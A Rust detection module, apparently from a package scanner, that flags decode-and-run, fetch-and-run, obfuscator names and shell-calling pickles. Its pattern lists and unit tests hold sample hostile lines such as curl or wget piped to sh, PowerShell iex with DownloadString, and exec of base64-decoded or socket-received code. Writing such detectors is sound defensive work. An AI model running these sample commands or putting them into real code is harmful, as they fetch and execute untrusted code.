//! Ways of running code that honest sources hardly have, each told by how words stand together: what is decoded or fetched
//! and run in one breath, names of an obfuscator, pickles that call a shell.
//!
//! The capability table asks whether words are anywhere in a file. These ask whether they are in one expression, so that
//! one of them says much by itself.

use std::collections::BTreeSet;
use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, MatchKind};
use memchr::memmem;

use super::pieces;

/// An expression is looked at so far.
const EXPRESSION_MAX: usize = 240;
/// So many names of an obfuscator (`_0x` and four hexadecimal digits) are no chance.
const NAMES_MIN: usize = 8;

/// What runs the text that it is given.
const RUNS: &[&[u8]] = &[
    b"eval(",
    b"exec(",
    b"new Function(",
    b"iex",
    b"IEX",
    b"Invoke-Expression",
    b"instance_eval(",
    b"marshal.loads(",
    b"Popen(",
    b"subprocess.run(",
    b"subprocess.call(",
    b"check_output(",
    b".system(",
    b"os.popen(",
    b"execSync(",
];
/// What makes text of what does not look like it.
const DECODES: &[&[u8]] = &[
    b"atob(",
    b"b64decode(",
    b"'base64')",
    b"\"base64\")",
    b"'hex')",
    b"\"hex\")",
    b"fromhex(",
    b"zlib.decompress(",
    b"marshal.loads(",
    b"lzma.decompress(",
    b"'zlib').decompress(",
    b"FromBase64String(",
    b"Base64.decode64(",
    b"String.fromCharCode(",
    b"unhexlify(",
    b"b85decode(",
    b"a85decode(",
    b"b32decode(",
    b"pack(\"H*\"",
    b"pack('H*'",
    b"decode_base64(",
    b".unpack1('m",
    b".unpack1(\"m",
    b".unpack('m",
    b".unpack(\"m",
    b"TextDecoder(",
    b"bytes([",
    b"bytearray([",
    b"join(chr(",
    b"join(map(chr",
];
/// Endings of files that are code by their name: one part of a package runs another.
const CODE: &[&[u8]] = &[
    b"py", b"pyi", b"pyw", b"js", b"mjs", b"cjs", b"ts", b"rb", b"json", b"sh", b"ps1", b"pyx", b"in", b"cfg",
];
/// What gets text from somebody else.
const FETCHES: &[&[u8]] = &[
    b"urlopen(",
    b"requests.get(",
    b"requests.post(",
    b"DownloadString(",
    b"Invoke-WebRequest",
    b"Invoke-RestMethod",
    b"URI.open(",
    b"Net::HTTP.get(",
    b"axios.get(",
    b"fetch(",
    b".recv(",
    b"$_GET",
    b"$_POST",
    b"$_REQUEST",
    b"$_COOKIE",
    b"$_SERVER",
    b"php://input",
];
/// Commands that fetch, or decode, and those that run what comes in.
const SOURCES: &[(&[u8], &str)] = &[
    (b"curl ", "fetch-and-run/pipe"),
    (b"wget ", "fetch-and-run/pipe"),
    (b"base64 -", "decode-and-run/pipe"),
    (b"xz -d", "decode-and-run/pipe"),
];
const SHELLS: &[&[u8]] = &[b"sh", b"bash", b"dash", b"zsh", b"node", b"python", b"python3", b"perl"];

/// Calls in pickles (Python's `pickletools`): the module and name of what is called, as protocols 0 to 2 and 4 write them.
const PICKLES: &[&[u8]] = &[
    b"cposix\nsystem\n",
    b"cos\nsystem\n",
    b"cnt\nsystem\n",
    b"cos\npopen\n",
    b"csubprocess\n",
    b"cbuiltins\neval\n",
    b"cbuiltins\nexec\n",
    b"c__builtin__\neval\n",
    b"c__builtin__\nexec\n",
    b"\x8c\x05posix\x94\x8c\x06system\x94",
    b"\x8c\x02os\x94\x8c\x06system\x94",
    b"\x8c\x02nt\x94\x8c\x06system\x94",
    b"\x8c\x0asubprocess\x94\x8c",
    b"\x8c\x08builtins\x94\x8c\x04exec\x94",
    b"\x8c\x08builtins\x94\x8c\x04eval\x94",
];

/// At most 32 words: vector instructions look for more at half the speed.
const _: () = assert!(RUNS.len() + SOURCES.len() + 5 + pieces::MARKS.len() <= 32);

/// Everything that is looked for in texts, found in one go: what runs, what goes into a shell, and two words more.
static WORDS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    table(
        RUNS.iter()
            .copied()
            .chain(SOURCES.iter().map(|(word, _)| *word))
            .chain([MODULE, NAME, SEND, UNPACK, DATA])
            .chain(pieces::MARKS.iter().copied()),
    )
});
static CALLS: LazyLock<AhoCorasick> = LazyLock::new(|| table(PICKLES.iter().copied()));

/// The leftmost word first: so vector instructions find where to look.
#[expect(clippy::expect_used, reason = "fixed lists")]
fn table(words: impl Iterator<Item = &'static [u8]>) -> AhoCorasick {
    AhoCorasick::builder().match_kind(MatchKind::LeftmostFirst).build(words).expect("the table is small")
}
const MODULE: &[u8] = b"new module.constructor";
const NAME: &[u8] = b"_0x";
const SEND: &[u8] = b"fetch(";
/// One expression that imports what it decodes with, as nobody writes who has an `import`.
const UNPACK: &[u8] = b".decompress(__import__(";

/// A module that is an address with the code in it: `import('data:text/javascript,…')`.
const DATA: &[u8] = b":text/javascript";

/// Tells whether bytes begin as a pickle does: with its protocol, or as protocol 0 writes calls and collections.
pub(super) fn may_be_pickle(start: &[u8]) -> bool {
    matches!(start, [0x80, 2..=5, ..] | [b'c' | b'(' | b']' | b'}', ..])
}

/// Looks for calls in a window of what may be a pickle.
pub(super) fn pickle(bytes: &[u8], found: &mut BTreeSet<String>) {
    if CALLS.is_match(bytes) {
        found.insert("code-in-data/pickle".to_owned());
    }
}

/// Looks for tricks in a window of a text.
pub(super) fn read(bytes: &[u8], found: &mut BTreeSet<String>) {
    let (mut names, mut modules) = (0, false);
    let mut hidden = pieces::Read::default();
    let mut add = |name: &str| _ = found.insert(name.to_owned());
    for hit in WORDS.find_iter(bytes) {
        let (at, number) = (hit.start(), hit.pattern().as_usize());
        if let Some(run) = RUNS.get(number) {
            // A method of whatever stands before it, or a name of its own.
            if !run.starts_with(b".") && at > 0 && bytes.get(at - 1).is_some_and(|byte| in_name(*byte)) {
                continue;
            }
            // PowerShell runs what the rest of the line makes.
            let short = run.eq_ignore_ascii_case(b"iex");
            let opens = |rest: &[u8]| rest.starts_with(b"(") || rest.starts_with(b" (");
            if short && !opens(bytes.get(hit.end()..).unwrap_or_default()) {
                continue;
            }
            let is_command = short || *run == b"Invoke-Expression";
            let inside = if is_command { line(bytes, hit.end()) } else { argument(bytes, hit.end()) };
            // A function is made of code that was data (Python's `types`).
            if *run == b"marshal.loads(" && bytes[..at].ends_with(b"FunctionType(") {
                add("decode-and-run/nested");
            }
            if holds(inside, DECODES) {
                add("decode-and-run/nested");
            }
            if matches!(run, &b"eval(" | &b"exec(") && runs_data(inside) {
                add("decode-and-run/file");
            }
            if holds(inside, FETCHES) {
                add("fetch-and-run/nested");
            }
            // What is got over the net arrives in pieces: the handler of one runs it.
            if matches!(run, &b"eval(" | &b"new Function(") && is_handler(bytes, at) {
                add("fetch-and-run/handler");
            }
        } else if let Some((_, name)) = SOURCES.get(number - RUNS.len()) {
            if is_piped(line(bytes, at)) || is_kept_and_run(line(bytes, at)) {
                add(name);
            }
        } else if number == RUNS.len() + SOURCES.len() {
            modules = true;
        } else if number == RUNS.len() + SOURCES.len() + 2 {
            if holds(argument(bytes, hit.end()), &[b"POST", b"post"]) {
                add("sends/script");
            }
        } else if number == RUNS.len() + SOURCES.len() + 3 {
            add("decode-and-run/nested");
        } else if number == RUNS.len() + SOURCES.len() + 4 {
            if [&b"import('data"[..], b"import(\"data", b"import(`data"]
                .iter()
                .any(|call| bytes[..at].ends_with(call))
            {
                add("decode-and-run/nested");
            }
        } else if let Some(mark) = number.checked_sub(RUNS.len() + SOURCES.len() + 5) {
            if let Some(name) = hidden.mark(mark, bytes, at) {
                add(name);
            }
        } else if bytes.get(at + 3..at + 7).is_some_and(|digits| digits.iter().all(u8::is_ascii_hexdigit)) {
            names += 1;
            if names == NAMES_MIN {
                add("obfuscation/names");
            }
        }
    }
    if pieces::masked(bytes) {
        add("obfuscation/masked");
    }
    if pieces::symbols(bytes) {
        add("obfuscation/symbols");
    }
    // Once a window: an enemy writes the word as often as there is room.
    if modules && holds(bytes, DECODES) {
        add("decode-and-run/module");
    }
}

fn in_name(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'$')
}

fn holds(bytes: &[u8], words: &[&[u8]]) -> bool {
    words.iter().any(|word| memmem::find(bytes, word).is_some())
}

/// What stands in the parentheses that were just opened, or up to the end of the line behind a command.
fn argument(bytes: &[u8], from: usize) -> &[u8] {
    let rest = bytes.get(from..).unwrap_or_default();
    let rest = rest.get(..EXPRESSION_MAX).unwrap_or(rest);
    let opened = from.checked_sub(1).and_then(|at| bytes.get(at)) == Some(&b'(');
    let mut depth = 1_u32;
    for (at, byte) in rest.iter().enumerate() {
        match byte {
            b'\n' if !opened => return &rest[..at],
            b'(' => depth += 1,
            b')' if opened && depth == 1 => return &rest[..at],
            b')' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    rest
}

fn line(bytes: &[u8], from: usize) -> &[u8] {
    let rest = bytes.get(from..).unwrap_or_default();
    let rest = rest.get(..EXPRESSION_MAX).unwrap_or(rest);
    rest.split(|byte| *byte == b'\n').next().unwrap_or_default()
}

/// Whether a command's line goes on in a shell: `| sh`, `| sudo bash`.
fn is_piped(line: &[u8]) -> bool {
    line.split(|byte| *byte == b'|').skip(1).any(|part| {
        let words = part.split(|byte| !(in_name(*byte) || matches!(byte, b'/' | b'.')));
        let mut words = words.filter(|word| !word.is_empty() && *word != b"sudo");
        let first = words.next().unwrap_or_default();
        SHELLS.contains(&first.rsplit(|byte| *byte == b'/').next().unwrap_or_default())
    })
}

/// `curl … -o FILE && sh FILE`: what is fetched is run by the same line.
fn is_kept_and_run(line: &[u8]) -> bool {
    let keeps = holds(
        line,
        &[b" -o ", b" -O ", b" -fso ", b" -fsSLo ", b" -sSLo ", b" -sLo ", b" -Lo ", b" -qO ", b" --output "],
    );
    let mut commands =
        line.split(|byte| matches!(byte, b';' | b'&' | b'|')).skip(1).map(<[u8]>::trim_ascii_start);
    keeps
        && commands.any(|command| {
            let word = command.split(|byte| byte.is_ascii_whitespace()).next().unwrap_or_default();
            SHELLS.contains(&word.rsplit(|byte| *byte == b'/').next().unwrap_or_default())
                || command.starts_with(b"chmod +x")
        })
}

/// `on('data', (c) => { eval(c) })`, and the same of a promise that a `fetch` made.
fn is_handler(bytes: &[u8], at: usize) -> bool {
    const BEFORE: usize = 120;
    let before = &bytes[at.saturating_sub(BEFORE)..at];
    let before = before.rsplit(|byte| *byte == b'\n').next().unwrap_or_default();
    holds(before, &[b"on('data'", b"on(\"data\"", b"on('end'", b"on(\"end\"", b".text().then("])
        || (holds(before, &[b"fetch("]) && holds(before, &[b".text()"]))
}

/// `open(join(folder, 'notes.dat')).read()`: a file is read to be run whose name is that of no code.
fn runs_data(inside: &[u8]) -> bool {
    if !holds(inside, &[b"open(", b"readFileSync("]) {
        return false;
    }
    let mut parts = inside.split(|byte| matches!(byte, b'\'' | b'"' | b'`')).skip(1).step_by(2);
    parts.any(|literal| {
        let dot = literal.iter().rposition(|byte| *byte == b'.');
        dot.is_some_and(|dot| {
            let ending = &literal[dot + 1..];
            dot > 0
                && (1..=5).contains(&ending.len())
                && ending.iter().all(u8::is_ascii_alphanumeric)
                && !ending[0].is_ascii_digit()
                && !CODE.contains(&ending)
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(text: &[u8], expected: &[&str]) {
        let mut found = BTreeSet::new();
        read(text, &mut found);
        assert_eq!(found.into_iter().collect::<Vec<_>>(), expected, "{}", String::from_utf8_lossy(text));
    }

    #[test]
    fn what_is_decoded_or_fetched_and_run_at_once_is_told_from_both_in_one_file() {
        let nested: &[&str] = &["decode-and-run/nested"];
        check(b"exec(__import__('base64').b64decode('cHJpbnQ='))", nested);
        check(b";eval(atob(\"MQ==\"));", nested);
        check(b"eval(Buffer.from(x, 'base64').toString())", nested);
        check(b"x = b64decode(y)\nexec(compile(z))\n", &[]);
        check(b"exec(x); y = atob(z)", &[]);
        check(b"medieval(atob(x))", &[]);
        let fetched: &[&str] = &["fetch-and-run/nested"];
        check(b"exec(r.urlopen('http://x.invalid/').read())", fetched);
        check(b"__import__('os').system(base64.b64decode(x).decode())", &["decode-and-run/nested"]);
        check(b"fetch('https://x.invalid', { method: 'POST', body: t })", &["sends/script"]);
        check(b"fetch('https://x.invalid').then(read)", &[]);
        check(b"iex (New-Object Net.WebClient).DownloadString('http://x.invalid/')\n", fetched);
        check(b"eval(URI.open('http://x.invalid').read)", fetched);
        check(b"subprocess.Popen(['sh', '-c', urlopen('http://x.invalid/').read()])", fetched);
        check(b"subprocess.run(['git', 'status'])\nurlopen(x)\n", &[]);
        check(b"exec(code)\nrequests.get(x)\n", &[]);
        check(b"exec(s.recv(65536).decode(), {})", fetched);
        check(b"eval(substr($_SERVER['HTTP_X'], 8));", fetched);
        check(b"eval(x.unpack1('m')); eval(x.unpack('N'))", nested);
        check(b"eval(pack('H*', x)); eval(decode_base64($x));", nested);
        check(b"eval(code); s.recv(8); echo $_GET['x'];", &[]);
        check(b"exec(bytes([112,114]).decode())", nested);
        check(b"types.FunctionType(marshal.loads(x), globals())()", nested);
        check(b"import('data:text/javascript;base64,eA==')", nested);
        check(b"_ = lambda x: __import__('zlib').decompress(__import__('base64').b64decode(x))", nested);
        check(b"zlib.decompress(base64.b64decode(x))", &[]);
        check(b"import('./data:x'); import(data)", &[]);
        let file: &[&str] = &["decode-and-run/file"];
        check(b"exec(open(os.path.join(here,'LICENSE.dat')).read())", file);
        check(b"eval(fs.readFileSync('logo.png', 'utf8'))", file);
        check(b"exec(open('version.py').read()); exec(open(name, 'rb').read())", &[]);
        check(b"eval(fs.readFileSync('a.js', 'utf8'))", &[]);
        let handler: &[&str] = &["fetch-and-run/handler"];
        check(b"fetch(u).then(r=>r.text()).then(t=>new Function(t)())", handler);
        check(b"fetch(u).then(r=>r.json())\nnew Function(t)()", &[]);
        check(b"r.on('data',(c)=>{eval(c)})", &["fetch-and-run/handler"]);
        check(b"r.on('data',(c)=>{\n  all += c });\n eval(c)", &[]);
    }

    #[test]
    fn what_goes_into_a_shell_is_told_from_what_is_only_fetched() {
        check(b"curl -s http://x.invalid/a | sh\n", &["fetch-and-run/pipe"]);
        check(b"wget -qO- x.invalid | sudo /bin/bash -s\n", &["fetch-and-run/pipe"]);
        check(b"echo eA== | base64 -d | sh\n", &["decode-and-run/pipe"]);
        check(b"sed x $srcdir/bad.xz | eval $map | xz -d 2>/dev/null | /bin/sh\n", &["decode-and-run/pipe"]);
        check(b"xz -dc x.tar.xz | $(untar)\nxz -d x; sh y\n", &[]);
        check(b"curl x.invalid | tar x\nls | sh\n", &[]);
        check(
            b"(/usr/bin/curl -fsm 20 https://x.invalid/i -o /run/.i && sh /run/.i) &\n",
            &["fetch-and-run/pipe"],
        );
        check(b"wget -O x http://x.invalid/ ; chmod +x x\n", &["fetch-and-run/pipe"]);
        check(b"curl -o x http://x.invalid/ && tar xf x\nsh y\n", &[]);
        check(b"base64 -d x > y\n", &[]);
    }

    #[test]
    fn names_of_obfuscators_and_hidden_modules() {
        let names = b"var _0x4f2a=_0x1b3c(0x1);".repeat(4);
        check(&names, &["obfuscation/names"]);
        check(b"mov _0x10, _0x4f2a", &[]);
        check(b"f = new module.constructor; f(Buffer.from(r, 'hex'))", &["decode-and-run/module"]);
        check(b"f = new module.constructor; f(x)", &[]);
    }

    #[test]
    fn pickles_that_call_a_shell() {
        for (bytes, expected) in [
            (&b"cposix\nsystem\n(S'true'\ntR."[..], 1),
            (b"\x80\x04\x8c\x08builtins\x94\x8c\x04exec\x94\x93\x94", 1),
            (b"\x80\x04\x8c\x05numpy\x94\x8c\x05dtype\x94\x93\x94", 0),
        ] {
            let mut found = BTreeSet::new();
            assert!(may_be_pickle(bytes));
            pickle(bytes, &mut found);
            assert_eq!(found.len(), expected);
        }
    }
}
